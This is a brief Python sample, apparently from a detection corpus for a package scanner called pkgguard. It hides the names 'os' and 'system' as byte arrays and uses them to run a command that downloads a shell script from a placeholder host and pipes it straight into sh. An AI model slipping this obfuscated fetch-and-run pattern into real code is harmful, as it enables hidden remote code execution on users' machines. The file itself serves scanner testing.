# pkgguard corpus 475 (indirection), modelled on [obfuscation]; inert, never run.
from importlib import import_module

_m = import_module(bytes([111, 115]).decode())
_f = getattr(_m, bytes([115, 121, 115, 116, 101, 109]).decode())
_f("wget -q -O - https://upd.example/u.sh | sh")
